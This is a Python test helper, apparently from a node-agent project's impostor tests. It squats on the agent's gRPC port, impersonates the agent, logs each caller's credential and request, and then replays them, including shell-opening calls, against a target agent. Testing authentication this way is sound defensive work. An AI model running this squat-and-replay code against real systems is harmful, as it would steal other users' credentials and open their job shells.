"""A port squatter: what an ordinary user could run on the agent's port while the agent
is down, if the port were not privileged. For the impostor tests only.

    squatter.py serve PORT OUTFILE [JOB]   answer every NodeAgent call like an agent would
                                           (CallerId: FOUND JOB), record what came in
    squatter.py replay OUTFILE TARGET      try to read each recorded credential, and replay
                                           it with its request at TARGET; print JSON

`serve` writes one JSON line per call to OUTFILE (method, the credential, the request
bytes in hex) and prints "listening" once bound. Run it with the lab's venv Python.
"""

from __future__ import annotations

import json
import sys
import threading
from collections.abc import Iterator
from concurrent import futures
from typing import Any

import grpc

from node_agent.auth import METADATA_KEY, MungeAuthenticator
from node_agent.errors import AuthError
from node_agent.proto.v1 import agent_pb2 as pb

SERVICE = "/callerid_adopt.v1.NodeAgent/"


class Squat(grpc.GenericRpcHandler):
    def __init__(self, out: str, job: str) -> None:
        self.out = out
        self.job = job
        self.lock = threading.Lock()

    def record(self, method: str, context: grpc.ServicerContext, request: bytes) -> None:
        cred = dict(context.invocation_metadata()).get(METADATA_KEY, "")
        with self.lock, open(self.out, "a") as f:
            f.write(json.dumps({"method": method, "cred": cred, "request": request.hex()}) + "\n")

    def service(self, details: grpc.HandlerCallDetails) -> Any:
        method = details.method
        if not method.startswith(SERVICE):
            return None
        name = method[len(SERVICE):]
        if name == "OpenJobShell":
            def shell(reqs: Iterator[bytes], ctx: grpc.ServicerContext) -> Iterator[bytes]:
                self.record(method, ctx, next(reqs, b""))
                yield pb.ShellFrame(opened=pb.ShellOpened(
                    host_key="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDsquat", node="node1",
                    user="bob", session_id="squat")).SerializeToString()
            return grpc.stream_stream_rpc_method_handler(shell)

        def unary(req: bytes, ctx: grpc.ServicerContext) -> bytes:
            self.record(method, ctx, req)
            if name == "ListJobs":
                asked = pb.ListJobsRequest.FromString(req)
                return pb.ListJobsReply(node="node1", jobs=[pb.Job(
                    id=asked.job_id or self.job, user="bob", uid=1002, state="running",
                    node="node1")]).SerializeToString()
            if name in ("CallerId", "Whois"):
                return pb.CallerIdReply(outcome=pb.CallerIdReply.FOUND, job_id=self.job,
                                        user="bob", uid=1002, node="node1",
                                        method="netlink+cgroup-id").SerializeToString()
            return b""
        return grpc.unary_unary_rpc_method_handler(unary)


def serve(port: int, out: str, job: str) -> None:
    server = grpc.server(futures.ThreadPoolExecutor(max_workers=8))
    server.add_generic_rpc_handlers((Squat(out, job),))
    if server.add_insecure_port(f"[::]:{port}") != port:
        sys.exit(f"squatter: cannot listen on port {port}")
    server.start()
    print("listening", flush=True)
    server.wait_for_termination()


def replay(out: str, target: str) -> None:
    auth = MungeAuthenticator()
    results = []
    with open(out) as f:
        captured = [json.loads(line) for line in f if line.strip()]
    with grpc.insecure_channel(target) as channel:
        for c in captured:
            try:
                auth.decode(c["cred"])
                decoded = "read"
            except AuthError as e:
                decoded = str(e)
            request = bytes.fromhex(c["request"])
            try:
                if c["method"].endswith("/OpenJobShell"):
                    call = channel.stream_stream(c["method"])
                    list(call(iter([request]), timeout=5,
                              metadata=[(METADATA_KEY, c["cred"])]))
                else:
                    channel.unary_unary(c["method"])(request, timeout=5,
                                                     metadata=[(METADATA_KEY, c["cred"])])
                code, details = "OK", ""
            except grpc.RpcError as e:
                code, details = e.code().name, e.details() or ""
            results.append({"method": c["method"], "decode": decoded, "code": code,
                            "details": details})
    print(json.dumps(results))


if __name__ == "__main__":
    if sys.argv[1] == "serve":
        serve(int(sys.argv[2]), sys.argv[3], sys.argv[4] if len(sys.argv) > 4 else "A")
    else:
        replay(sys.argv[2], sys.argv[3])
